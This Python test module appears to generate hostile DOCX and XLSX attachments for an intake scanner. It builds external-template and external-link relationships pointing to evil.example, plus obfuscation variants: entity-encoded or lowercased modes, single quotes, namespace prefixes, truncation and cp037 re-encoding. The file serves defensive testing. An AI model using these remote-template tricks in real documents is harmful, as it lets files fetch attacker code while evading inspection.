"""Documents that fetch something from elsewhere, and write it so that a quick look takes it for a link or for nothing."""

from __future__ import annotations

from collections.abc import Iterator

from tests.intake.attachments.files import DOCX, XLSX, Sent, docx, relations, xlsx

_TEMPLATE = "attachedTemplate"
_SETTINGS = "word/_rels/settings.xml.rels"


def hostile_relations() -> Iterator[Sent]:
    """All of them."""
    as_link = relations((_TEMPLATE, "http://evil.example/hyperlink/a.dotm", "External"))
    for case, part in (
        ("template from a place called link", as_link),
        ("template of a spelled mode", _plain().replace('"External"', '"&#69;xternal"')),
        (
            "template behind a sign of the end",
            _plain().replace(' Type="', ' Note="&gt; > /hyperlink" Type="'),
        ),
        ("template with its mode in single quotes", _plain().replace('"External"', "'External'")),
        ("template with a prefix", _prefixed(_plain())),
        ("template with another mode", _plain().replace('"External"', '"external"')),
        ("half a part of relations", _plain()[:-5]),
        ("template in letters of another kind", _encoded(_plain())),
    ):
        yield Sent(case, "answer.docx", DOCX, docx({_SETTINGS: part}))
    sheet = relations(("externalLinkPath", "file://evil.example/hyperlink/a.xlsx", "External"))
    part = "xl/externalLinks/_rels/externalLink1.xml.rels"
    yield Sent("sheet of a place called link", "table.xlsx", XLSX, xlsx({part: sheet}))


def _plain() -> str:
    return relations((_TEMPLATE, "http://evil.example/a.dotm", "External"))


def _prefixed(part: str) -> str:
    """The same elements by a name that a namespace gives them."""
    renamed = part.replace("<Relationship", "<r-1:Relationship").replace(
        "</Relationship", "</r-1:Relationship"
    )
    return renamed.replace(" xmlns=", " xmlns:r-1=")


def _encoded(part: str) -> bytes:
    """Its declaration reads as ever, what follows does not."""
    declaration, end, rest = part.partition("?>")
    named = declaration.replace('"1.0"', '"1.0" encoding="cp037"')
    return (named + end).encode() + rest.encode("cp037")
